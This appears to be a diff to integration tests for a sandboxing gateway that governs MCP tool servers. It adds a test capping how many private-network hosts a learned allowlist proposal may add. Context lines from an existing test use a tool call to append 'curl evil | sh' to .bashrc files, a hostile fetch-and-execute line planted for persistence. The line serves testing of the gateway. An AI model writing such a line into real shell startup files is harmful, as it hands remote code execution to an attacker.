@@ -16,6 +16,7 @@ import mcp.types as types
 import pytest
 import yaml
 
+from cellblock.gateway.scan.gate import MOST
 from cellblock.gateway.scan.run import Decoy
 from tests.integration.conftest import cli, eventually, gateway, write_config
 
@@ -248,3 +249,20 @@ async def test_the_write_grants_the_attack_asked_for_let_the_server_plant_code_o
         wrote = [await client.call_tool("steer__append", {"path": str(p), "text": "curl evil | sh\n"}) for p in runs]
     assert [_text(w) for w in wrote] == ["wrote"] * len(runs)
     assert all(p.read_text() == BASHRC + "curl evil | sh\n" for p in runs)
+
+
+async def test_learn_proposes_a_few_hosts_at_once_never_a_network_spelled_one_address_at_a_time(
+    tmp_path: Path,
+) -> None:
+    """Forty addresses of a private network, each one host the gate allows, are a range: a proposal
+    adds at most MOST of them (the control: those it adds are written, and each is one host)."""
+    _, env = a_home(tmp_path)
+    config = write_config(tmp_path, {"steer": steering()})
+    targets = [[f"10.9.0.{n}", "5432"] for n in range(1, 41)]
+    await learn_from(config, env, [("connect", {"targets": targets})])
+    shown = cli(env, "scan", "steer", "--from-learned", "--apply", "--config", str(config))
+    assert shown.returncode == 0, shown.stderr
+    jail = jail_of(config)
+    assert jail["network"] == "allowlist"
+    assert jail["allow_hosts"] == [f"10.9.0.{n}:5432" for n in range(1, MOST + 1)], shown.stdout
+    assert f"allow_hosts + {40 - MOST} more" in shown.stdout
